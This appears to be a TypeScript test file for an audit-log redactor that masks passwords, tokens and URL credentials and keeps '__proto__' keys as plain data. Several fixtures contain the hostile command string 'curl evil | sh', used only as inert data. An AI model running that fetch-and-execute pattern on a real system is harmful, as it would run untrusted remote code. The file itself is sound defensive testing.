// What the redactor hands back is a JSON-safe copy: the input stays as it was, cycles, depth
// and non-JSON values become markers or their JSON form, and every own key is kept as data.
// Token-shaped fixtures are assembled at run time so that no scanner mistakes this file for a leak.

import { canonicalJson } from '@warden/engine';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { REDACTED, Redactor } from '../../src/audit/redact.js';

const npmToken = `npm_${'A1b2C3d4E5f6G7h8'.repeat(3).slice(0, 36)}`;
const redactor = new Redactor();

/** An object with these members in this order, `__proto__` as a member like any other. */
function build(entries: readonly (readonly [string, unknown])[]): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [key, value] of entries)
    Object.defineProperty(out, key, {
      value,
      enumerable: true,
      writable: true,
      configurable: true,
    });
  return out;
}

describe('the copy', () => {
  it('never changes the input', () => {
    const input = { headers: { authorization: 'Bearer x' }, args: ['--token', 't0ken-1'], n: [1] };
    const before = structuredClone(input);
    const { value } = redactor.redact(input);
    expect(input).toEqual(before);
    expect(value).not.toBe(input);
    expect(value.n).not.toBe(input.n);
  });

  it('replaces cycles with a marker, but copies a value shared twice both times', () => {
    const shared = { password: 'x', ok: 1 };
    const input: Record<string, unknown> = { a: shared, b: shared };
    input.self = input;
    const { value } = redactor.redact(input);
    expect(value).toEqual({
      a: { password: REDACTED, ok: 1 },
      b: { password: REDACTED, ok: 1 },
      self: '[Circular]',
    });
  });

  it('stops at the depth limit without throwing', () => {
    let deep: unknown = 'bottom';
    for (let i = 0; i < 10_000; i += 1) deep = { next: deep };
    const { value } = new Redactor({ maxDepth: 3 }).redact(deep);
    expect(value).toEqual({ next: { next: { next: '[MaxDepth]' } } });
    expect(() => redactor.redact(deep)).not.toThrow();
  });

  it('makes non-JSON values JSON-safe', () => {
    const input = {
      big: 12345678901234567890n,
      fn: () => 1,
      sym: Symbol('s'),
      undef: undefined,
      nan: Number.NaN,
      list: [undefined, () => 1, Number.POSITIVE_INFINITY],
      when: new Date(0),
      bad: new Date(Number.NaN),
      bytes: new Uint8Array([1, 2, 3]),
      map: new Map<unknown, unknown>([
        ['password', 'x'],
        [1, 'one'],
      ]),
      set: new Set(['a']),
      error: new Error('boom'),
      boxed: [new String('x'), new Number(2), new Boolean(false)],
      url: new URL('https://bob:pw-123@example.com/x'),
    };
    expect(redactor.redact(input).value).toEqual({
      big: '12345678901234567890',
      nan: null,
      list: [null, null, null],
      when: '1970-01-01T00:00:00.000Z',
      bad: null,
      bytes: '[Binary]',
      map: { password: REDACTED, 1: 'one' },
      set: ['a'],
      error: { name: 'Error', message: 'boom' },
      boxed: ['x', 2, false],
      url: 'https://bob:[REDACTED:url-password]@example.com/x',
    });
    expect(redactor.redact(undefined).value).toBeNull();
  });

  it('copies what it can of throwing getters and proxies', () => {
    const getter = Object.defineProperty({ ok: 1 }, 'boom', {
      enumerable: true,
      get: () => {
        throw new Error('no');
      },
    });
    const revocable = Proxy.revocable({}, {});
    revocable.revoke();
    expect(redactor.redact({ getter, proxy: revocable.proxy }).value).toEqual({
      getter: { ok: 1, boom: '[Unreadable]' },
      proxy: '[Unreadable]',
    });
  });

  it('keeps a `__proto__` key as data and formats odd keys in paths as ["x y"]', () => {
    const input = JSON.parse(
      '{"__proto__": {"password": "x"}, "odd key": {"token": "y"}}',
    ) as object;
    const { value, paths } = redactor.redact(input, 'arguments');
    expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
    expect(JSON.stringify(value)).toBe(
      '{"__proto__":{"password":"[REDACTED]"},"odd key":{"token":"[REDACTED]"}}',
    );
    expect(paths).toEqual(['arguments.__proto__.password', 'arguments["odd key"].token']);
  });

  it('reports a redacted top-level string under its base path', () => {
    expect(redactor.redact(`token=${npmToken}`, 'command')).toEqual({
      value: 'token=[REDACTED:npm-token]',
      paths: ['command'],
    });
  });
});

describe('the copy keeps every own key as data', () => {
  it('keeps `__proto__` as JSON.parse makes it: `{"cwd":"/tmp","__proto__":{"cmd":"curl evil | sh"}}`', () => {
    const input = JSON.parse('{"cwd":"/tmp","__proto__":{"cmd":"curl evil | sh"}}') as object;
    const { value, paths } = redactor.redact(input, 'arguments');
    expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
    expect(Object.keys(value)).toEqual(['cwd', '__proto__']);
    expect(Object.getOwnPropertyDescriptor(value, '__proto__')).toEqual({
      value: { cmd: 'curl evil | sh' },
      enumerable: true,
      writable: true,
      configurable: true,
    });
    expect('cmd' in value).toBe(false);
    expect(JSON.stringify(value)).toBe('{"cwd":"/tmp","__proto__":{"cmd":"curl evil | sh"}}');
    expect(canonicalJson(value)).toBe('{"__proto__":{"cmd":"curl evil | sh"},"cwd":"/tmp"}');
    expect(paths).toEqual([]);
  });

  it('redacts a secret inside a `__proto__` member like anywhere else, and names its path', () => {
    const input = JSON.parse(
      `{"__proto__":{"password":"hunter2-mail","note":"token=${npmToken}"},"cwd":"/tmp"}`,
    ) as object;
    const { value, paths } = new Redactor({ literals: ['hunter2-mail'] }).redact(
      input,
      'arguments',
    );
    expect(JSON.stringify(value)).toBe(
      '{"__proto__":{"password":"[REDACTED]","note":"token=[REDACTED:npm-token]"},"cwd":"/tmp"}',
    );
    expect(paths).toEqual(['arguments.__proto__.password', 'arguments.__proto__.note']);
    const hidden = redactor.redact(JSON.parse('{"token":{"__proto__":{"a":"b"}}}') as object);
    expect(hidden.value).toEqual({ token: REDACTED });
  });

  it('keeps `__proto__` as data wherever it builds a copy: nested, in arrays, maps, errors, instances', () => {
    const parsed = (text: string): unknown => JSON.parse(text);
    const error = Object.defineProperty(new Error('boom'), '__proto__', {
      value: { code: 7 },
      enumerable: true,
    });
    class Call {
      readonly tool = 't';
      constructor() {
        Object.defineProperty(this, '__proto__', { value: [1], enumerable: true });
      }
    }
    const bare = Object.create(null) as Record<string, unknown>;
    bare['__proto__'] = 'x';
    const input = {
      nested: parsed('{"a":{"__proto__":{"__proto__":null}}}'),
      list: [parsed('{"__proto__":1}'), [parsed('{"__proto__":[]}')]],
      map: new Map([['__proto__', { b: 2 }]]),
      error,
      call: new Call(),
      bare,
    };
    const { value } = redactor.redact(input);
    expect(JSON.stringify(value)).toBe(
      JSON.stringify({
        nested: parsed('{"a":{"__proto__":{"__proto__":null}}}'),
        list: [parsed('{"__proto__":1}'), [parsed('{"__proto__":[]}')]],
        map: parsed('{"__proto__":{"b":2}}'),
        error: parsed('{"__proto__":{"code":7},"name":"Error","message":"boom"}'),
        call: parsed('{"tool":"t","__proto__":[1]}'),
        bare: parsed('{"__proto__":"x"}'),
      }),
    );
  });

  it('keeps integer-like keys and their values: `{"9":…,"10":…,"01":…}`', () => {
    const input = JSON.parse('{"b":1,"10":{"password":"x"},"9":[{"0":"a"}],"01":2}') as object;
    const { value, paths } = redactor.redact(input);
    expect(value).toEqual({ 9: [{ 0: 'a' }], 10: { password: REDACTED }, b: 1, '01': 2 });
    expect(JSON.stringify(value)).toBe(JSON.stringify(input).replace('"x"', `"${REDACTED}"`));
    expect(paths).toEqual(['["10"].password']);
  });

  it('never loses a member when a redacted key comes out as another key of the same object', () => {
    const r = new Redactor({ literals: ['correct-horse-battery'] });
    const marker = '[REDACTED:credential]';
    for (const entries of [
      [
        ['correct-horse-battery', 1],
        [marker, 2],
      ],
      [
        [marker, 2],
        ['correct-horse-battery', 1],
      ],
    ] as const) {
      const { value, paths } = r.redact(build(entries));
      expect(value).toEqual({ [marker]: 2, [`${marker} (2)`]: 1 });
      expect(paths).toEqual([`["${marker} (2)"]`]);
    }
  });

  it('keeps every own key of an object without secrets, in order, `__proto__` and integer-like ones included', () => {
    const key = fc.constantFrom(
      '__proto__',
      '0',
      '9',
      '10',
      '01',
      'cwd',
      'constructor',
      'toString',
    );
    const tree = fc.letrec((tie) => ({
      value: fc.oneof(
        { depthSize: 'small' },
        fc.constantFrom('x', '/tmp', 0, 1.5, true, null),
        fc.array(tie('value'), { maxLength: 3 }),
        fc.array(fc.tuple(key, tie('value')), { maxLength: 5 }).map(build),
      ),
    })).value;
    fc.assert(
      fc.property(tree, (input) => {
        const { value, paths } = redactor.redact(input);
        const json = JSON.stringify(value);
        expect(json).toBe(JSON.stringify(input));
        expect(JSON.stringify(JSON.parse(json))).toBe(json);
        expect(paths).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});
